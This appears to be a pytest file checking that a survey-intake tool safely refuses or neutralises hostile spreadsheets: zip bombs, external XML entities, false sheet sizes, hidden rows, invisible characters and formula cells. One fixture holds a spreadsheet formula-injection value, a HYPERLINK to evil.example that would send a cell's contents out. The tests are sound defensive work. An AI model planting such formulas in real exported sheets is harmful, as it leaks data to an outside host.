"""Every hostile sheet is refused in plain words, or every row of it is accounted for and inert."""

import io
import subprocess
import sys
import zipfile
from collections.abc import Iterator

import pytest

from ok_match import Intake, OkMatchError, Sheet, SheetError, check
from ok_match.intake.files.cleaning import hides_something
from ok_match.intake.files.extent import largest_sheet

from . import hostile

#: A failed allocation ends the process, so this sheet is read in another process.
APART = "last-cell-of-the-sheet.xlsx"


def data_of(name: str) -> bytes:
    return hostile.MADE[name]() if name in hostile.MADE else (hostile.FOLDER / name).read_bytes()


def read(name: str) -> Intake:
    return check(Sheet(name, data_of(name)))


def kept(intake: Intake) -> Iterator[str]:
    """Every text about people that an intake keeps."""
    for person in intake.participants:
        yield from (person.name, person.organisation, person.industry, person.email)
        yield from (statement.text for statement in person.statements)
        yield from (value for trait in person.traits for value in trait.values)
    yield from (text for problem in intake.problems for text in (problem.message, problem.value))


def test_every_file_has_its_description() -> None:
    assert {path.name for path in hostile.FOLDER.iterdir()} == set(hostile.DESCRIPTIONS)


@pytest.mark.parametrize("name", sorted({*hostile.DESCRIPTIONS, *hostile.MADE} - {APART}))
def test_a_hostile_sheet_is_refused_or_every_row_is_accounted_for(name: str) -> None:
    refusal: OkMatchError | None = None
    try:
        intake = read(name)
    except OkMatchError as error:
        refusal = error
    if refusal is not None:
        assert all((refusal.where, refusal.what, refusal.follows, refusal.advice))
        return
    account = intake.rows
    assert account.people + account.merged + account.dropped + account.held == account.data
    assert not any(hides_something(text) for text in kept(intake))


def test_a_cell_in_the_last_corner_of_a_sheet_does_not_ask_for_all_memory() -> None:
    code = (
        "from ok_match import OkMatchError, Sheet, check\nfrom tests.intake import hostile\n"
        "try:\n    check(Sheet('sheet.xlsx', hostile.last_cell_of_the_sheet()))\nexcept OkMatchError:\n    pass\n"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False, timeout=60)  # noqa: S603
    assert run.returncode == 0


@pytest.mark.parametrize(
    ("made", "cells"),
    [
        (hostile.last_cell_of_the_sheet, 16_384 * 1_048_576),
        (hostile.hidden_rows_and_columns, 8 * 3),
        (hostile.merged_cells, 8 * 5),
        (hostile.workbook_without_sheets, 0),
        (lambda: hostile.raw_workbook("<sheetData><row\tr = '9'><c r='C9'/></row></sheetData>"), 3 * 9),
    ],
)
def test_the_size_of_a_sheet_is_known_before_it_is_laid_out(made: object, cells: int) -> None:
    with zipfile.ZipFile(io.BytesIO(made())) as archive:  # type: ignore[operator]
        assert largest_sheet(archive) == cells


@pytest.mark.parametrize("filler", hostile.FILLERS)
def test_no_pattern_hangs_on_a_long_answer(filler: str) -> None:
    assert check(Sheet("sheet.csv", hostile.long_cells(filler))).rows.data == 2


@pytest.mark.parametrize("name", ["external-entity.xlsx", "entities-within-entities.xlsx"])
def test_an_entity_is_never_followed(name: str) -> None:
    try:
        texts = list(kept(read(name)))
    except SheetError:
        return
    assert not any("root:" in text or "haha" in text for text in texts)


@pytest.mark.parametrize("name", ["zip-bomb.xlsx", "zip-bomb-that-lies.xlsx", "locked.xlsx", "xml-spreadsheet.xls"])
def test_a_file_that_is_not_a_sheet_of_answers_is_refused(name: str) -> None:
    with pytest.raises(SheetError):
        read(name)


def test_people_and_firms_may_have_names_that_programs_read_as_missing() -> None:
    people = {person.email.split("@")[0]: person for person in read("names-that-are-no-values.csv").participants}
    names = {short: (person.name, person.organisation, person.industry) for short, person in people.items()}
    assert names == {
        "null": ("Null", "None", "NA"),
        "none": ("None", "NaN", "None"),
        "na": ("NA", "N", "Inf"),
        "true": ("True", "True & False", "TRUE"),
        "nan": ("Nan", "1e5", "007"),
    }


def test_a_formula_is_kept_as_text() -> None:
    people = {person.email: person for person in read("formula-cells.csv").participants}
    assert people["ana@people.example"].name == '=HYPERLINK("http://evil.example/?"&A2,"Ana")'
    assert people["bo@people.example"].name == "=1+1"


def test_a_hidden_row_is_left_out_and_asked_about() -> None:
    intake = read("hidden-rows.xlsx")
    assert {person.name for person in intake.participants} == {"Ana Roe"}
    assert "hidden-rows" in [problem.code for problem in intake.decisions]


def test_a_cell_merged_downwards_speaks_for_all_its_rows() -> None:
    assert {person.organisation for person in read("merged-cells.xlsx").participants} == {"Roe Bakery"}


def test_the_error_of_a_formula_is_no_answer() -> None:
    [ana] = read("error-cells.xlsx").participants
    assert ana.statements == ()


def test_an_address_with_an_invisible_character_is_the_same_address() -> None:
    rows = read("mirrored-and-hidden-text.csv").rows
    assert (rows.people, rows.merged) == (2, 1)


def test_the_line_that_tells_excel_the_separator_is_no_header() -> None:
    assert {person.name for person in read("separator-line.csv").participants} == {"Ana Roe", "Bo Lund"}


def test_a_sheet_that_claims_to_be_huge_is_read_at_its_real_size() -> None:
    assert read("false-dimension.xlsx").rows.people == 1


def test_an_answer_with_many_commas_is_one_cell() -> None:
    answer = "Bread, rolls, buns, cakes, pies, tarts, scones, biscuits, and all of it before six."
    rows = [[*hostile.ANA[:4], answer, *hostile.ANA[5:]], ["bo@people.example", "Bo Lund", *hostile.ANA[2:]]]
    intake = check(Sheet("sheet.csv", hostile.sheet_of(rows)))
    assert {person.name: person.statements[0].text for person in intake.participants} == {
        "Ana Roe": answer,
        "Bo Lund": hostile.ANA[4],
    }


def test_the_same_person_answering_again_and_again_is_one_person() -> None:
    rows = read("few-people-many-rows.csv").rows
    assert (rows.people, rows.merged) == (7, rows.data - 7)
